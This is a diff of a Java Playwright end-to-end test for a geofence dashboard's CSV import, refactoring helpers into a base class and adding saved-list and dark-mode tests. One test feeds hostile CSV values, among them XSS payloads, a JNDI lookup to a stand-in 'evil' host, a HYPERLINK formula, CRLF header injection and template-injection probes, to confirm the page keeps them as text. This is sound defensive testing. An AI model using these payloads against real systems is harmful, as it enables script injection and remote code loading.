@@ -3,129 +3,27 @@ package io.spatialflow.server.dashboard;
 import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThat;
 
-import com.deque.html.axecore.playwright.AxeBuilder;
-import com.microsoft.playwright.BrowserContext;
 import com.microsoft.playwright.Locator;
 import com.microsoft.playwright.Page;
 import com.microsoft.playwright.assertions.LocatorAssertions;
-import com.microsoft.playwright.options.AriaRole;
 import com.microsoft.playwright.options.ColorScheme;
 import com.microsoft.playwright.options.FilePayload;
 import io.spatialflow.server.account.WorkspaceId;
 import io.spatialflow.server.cli.RunningServer;
 import io.spatialflow.server.geofence.GeofenceQuery;
 import java.nio.charset.StandardCharsets;
-import java.nio.file.Files;
-import java.nio.file.Path;
-import java.util.ArrayList;
-import java.util.List;
 import java.util.regex.Pattern;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.AfterEach;
-import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 
 /** The import, from a list to fences and back, as somebody with a browser goes through it. */
-class ImportJourneyTest extends DashboardTest {
-
-    private static int people;
-
-    private static Chromium chromium;
-
-    private final List<String> complaints = new ArrayList<>();
-    private BrowserContext context;
-    private Page page;
-
-    @BeforeAll
-    static void startBrowser() {
-        chromium = Chromium.start();
-    }
-
-    @AfterAll
-    static void stopBrowser() {
-        if (chromium != null) {
-            chromium.close();
-        }
-    }
-
-    @BeforeEach
-    void openWindow() {
-        open(chromium.desktop(ColorScheme.LIGHT));
-    }
-
-    @AfterEach
-    void closeWindow() {
-        if (context != null) {
-            context.close();
-        }
-        assertThat(complaints)
-                .as("what the browser complains of, the content security policy first")
-                .isEmpty();
-    }
-
-    private void open(BrowserContext fresh) {
-        if (context != null) {
-            context.close();
-        }
-        context = fresh;
-        page = context.newPage();
-        page.onConsoleMessage(message -> {
-            if (message.type().equals("error") && !message.text().contains("the server responded with a status of 4")) {
-                complaints.add(message.text() + " at " + message.location());
-            }
-        });
-        page.onPageError(complaints::add);
-    }
-
-    private WorkspaceId signIn() {
-        String name = "importer-" + ++people;
-        WorkspaceId workspace = server.newWorkspace(name, email(name), PASSWORD);
-        signInAs(name);
-        return workspace;
-    }
-
-    private void signInAs(String name) {
-        page.navigate(server.address() + "/login");
-        page.getByLabel("E-mail").fill(email(name));
-        page.getByLabel("Password").fill(PASSWORD);
-        button("Log in").click();
-    }
-
-    private Locator button(String name) {
-        return page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName(name));
-    }
-
-    private Locator link(String name) {
-        return page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName(name));
-    }
+class ImportJourneyTest extends BrowserTest {
 
     private Locator row(int ordinal) {
         return page.locator("tr[data-row='" + (ordinal - 1) + "']");
     }
 
-    private void accessible() {
-        assertThat(new AxeBuilder(page)
-                        .analyze().getViolations().stream()
-                                .map(violation -> violation.getId() + ": "
-                                        + violation.getNodes().stream()
-                                                .map(node -> "" + node.getTarget() + node.getFailureSummary())
-                                                .toList())
-                                .toList())
-                .isEmpty();
-    }
-
-    private void picture(String name) throws Exception {
-        if (Boolean.getBoolean("spatialflow.write")) {
-            page.waitForTimeout(300);
-            Path docs = Path.of("..", "docs", "pictures");
-            Files.createDirectories(docs);
-            page.screenshot(new Page.ScreenshotOptions().setPath(docs.resolve(name + ".png")));
-        }
-    }
-
     private void paste(String text) {
-        page.navigate(server.address() + "/import");
+        go("/import");
         page.getByLabel("Or paste rows").fill(text);
         button("Look at the list").click();
         button("Find the addresses").click();
@@ -137,10 +35,9 @@ class ImportJourneyTest extends DashboardTest {
     }
 
     @Test
-    void fromNothingToFencesOnTheMapInFourClicks() throws Exception {
+    void fromTheLoginToFencesOnTheMapInFourClicks() throws Exception {
         WorkspaceId workspace = signIn();
-        assertThat(page.getByRole(AriaRole.HEADING, new Page.GetByRoleOptions().setName("No geofences yet")))
-                .isVisible();
+        assertThat(heading("No geofences yet")).isVisible();
         accessible();
         picture("first-visit");
         button("Try it with a sample list").click();
@@ -256,10 +153,10 @@ class ImportJourneyTest extends DashboardTest {
     @Test
     void theWholeWayByKeyboardAlone() {
         WorkspaceId workspace = signIn();
-        page.navigate(server.address() + "/import");
+        go("/import");
         reach("text");
         page.keyboard().insertText(RunningServer.mainStreet(100) + "\n9 Nowhere Rd, Testville, VT\n");
-        reachButton("Look at the list");
+        reachControl("Look at the list");
         page.keyboard().press("Enter");
         assertThat(button("Find the addresses")).isFocused();
         page.keyboard().press("Enter");
@@ -272,43 +169,20 @@ class ImportJourneyTest extends DashboardTest {
         page.keyboard().press("Enter");
         assertThat(row(2)).containsText("Ready");
         assertThat(page.locator("#edit-1")).isFocused();
-        reachButton("Create 2 geofences");
+        reachControl("Create 2 geofences");
         page.keyboard().press("Enter");
         assertThat(page.getByText("2 geofences created")).isVisible();
         assertThat(fences(workspace)).isEqualTo(2);
     }
 
-    private void reach(String id) {
-        tabUntil("document.activeElement.id === '" + id + "'");
-    }
-
-    private void reachButton(String text) {
-        tabUntil("document.activeElement.tagName === 'BUTTON' && document.activeElement.textContent.trim().startsWith('"
-                + text + "')");
-    }
-
-    private void tabUntil(String reached) {
-        for (int i = 0; i < 80; i++) {
-            if ((boolean) page.evaluate(reached)) {
-                return;
-            }
-            page.keyboard().press("Tab");
-        }
-        throw new AssertionError("no way by keyboard to: " + reached);
-    }
-
     @Test
     void hostileNamesAndAddressesStayText() {
         signIn();
-        page.navigate(server.address() + "/import");
+        go("/import");
         String csv = "name,address\n\"<img src=x onerror=alert(1)>\",\"</script><script>alert(1)</script>\"\n"
                 + "\"${7*7} [[${7*7}]] __${7*7}__\",\"${jndi:ldap://evil}\"\n"
                 + "\"=HYPERLINK(\"\"http://evil\"\")\",\"%0d%0aSet-Cookie: a=b\"\n"
                 + "\"\u001b[31mred\u202Eder\",\"javascript:alert(1)\"\n";
-        page.onDialog(dialog -> {
-            complaints.add("a dialog: " + dialog.message());
-            dialog.dismiss();
-        });
         page.locator("#file")
                 .setInputFiles(new FilePayload("<b>hostile</b>.csv", "text/csv", csv.getBytes(StandardCharsets.UTF_8)));
         assertThat(page.locator("h1")).hasText("<b>hostile</b>.csv");
@@ -326,7 +200,7 @@ class ImportJourneyTest extends DashboardTest {
         signIn();
         paste(RunningServer.mainStreet(100));
         String theirs = page.url();
-        open(chromium.desktop(ColorScheme.LIGHT));
+        openDesktop(ColorScheme.LIGHT);
         signIn();
         assertThat(page.navigate(theirs).status()).isEqualTo(404);
         assertThat(page.navigate(theirs + "/errors.csv").status()).isEqualTo(404);
@@ -339,7 +213,7 @@ class ImportJourneyTest extends DashboardTest {
     void anEndedSessionLeadsToTheLogin() {
         signIn();
         paste(RunningServer.mainStreet(100));
-        context.clearCookies();
+        forgetCookies();
         page.locator("#edit-0").click();
         assertThat(page.getByLabel("Password")).isVisible();
     }
@@ -355,7 +229,7 @@ class ImportJourneyTest extends DashboardTest {
                     .append(1 + i % RunningServer.HOUSES)
                     .append(" Main St,Testville,VT,05999\n");
         }
-        page.navigate(server.address() + "/import");
+        go("/import");
         page.locator("#file")
                 .setInputFiles(
                         new FilePayload("stores.csv", "text/csv", csv.toString().getBytes(StandardCharsets.UTF_8)));
@@ -367,29 +241,62 @@ class ImportJourneyTest extends DashboardTest {
         link("Next").click();
         assertThat(page.getByText("Page 2 of 100")).isVisible();
         assertThat(row(51)).isVisible();
-        Number weight = (Number)
-                page.evaluate("performance.getEntriesByType('resource').reduce((sum, r) => sum + r.encodedBodySize,"
-                        + " performance.getEntriesByType('navigation')[0].encodedBodySize)");
-        assertThat(weight.longValue()).as("bytes of the page and all it loads").isLessThan(1_500_000);
+        assertThat(weight()).as("bytes of the page and all it loads").isLessThan(1_500_000);
     }
 
     @Test
-    void itIsReadableOnAPhoneAndInTheDark() throws Exception {
-        open(chromium.phone());
+    void aListIsSavedAndUsedAgain() throws Exception {
         signIn();
-        page.navigate(server.address() + "/import");
+        paste("name;address\nDepot;" + RunningServer.mainStreet(100) + "\nYard;" + RunningServer.mainStreet(200)
+                + "\n");
+        page.locator("details.menu > summary").click();
+        page.getByLabel("Save it to use it again, as").fill("Depots, every month");
         accessible();
-        paste("name;address\nDepot;" + RunningServer.mainStreet(100) + "\nNowhere;9 Nowhere Rd, Testville, VT\n");
-        assertThat((int) page.evaluate("document.documentElement.scrollWidth")).isLessThanOrEqualTo(390);
+        button("Save list").click();
+        assertThat(page.locator("h1")).containsText("Depots, every month");
+        button("Create 2 geofences").click();
+        assertThat(page.getByText("2 geofences created")).isVisible();
+        go("/import");
         accessible();
-        picture("import-phone");
-        open(chromium.desktop(ColorScheme.DARK));
+        picture("import-start");
+        button("Use Depots, every month again").click();
+        assertThat(row(1)).containsText("Duplicate");
+        page.locator("#strategy-OVERRIDE").check();
+        assertThat(button("Create 2 geofences")).isVisible();
+    }
+
+    @Test
+    void everyStepIsReadableOnAPhoneInTheDark() throws Exception {
+        openPhone(ColorScheme.DARK);
+        everyStep("-phone");
+    }
+
+    @Test
+    void everyStepIsReadableInTheDark() throws Exception {
+        openDesktop(ColorScheme.DARK);
+        everyStep("-dark");
+    }
+
+    private void everyStep(String kind) throws Exception {
         signIn();
-        page.navigate(server.address() + "/import");
+        go("/import");
+        readable("import-start" + kind);
         button("Try it with a sample list").click();
+        readable("import-columns" + kind);
         button("Find the addresses").click();
         assertThat(row(1)).containsText("Ready");
+        readable("import-preview" + kind);
+        page.locator("#edit-11").click();
+        assertThat(page.locator("input[name=candidate]").first()).isVisible();
+        readable("import-choose" + kind);
+        button("Create").last().click();
+        assertThat(page.getByText("geofences created")).isVisible();
+        readable("import-result" + kind);
+    }
+
+    private void readable(String picture) throws Exception {
+        fitsTheWindow();
         accessible();
-        picture("import-dark");
+        picture(picture);
     }
 }
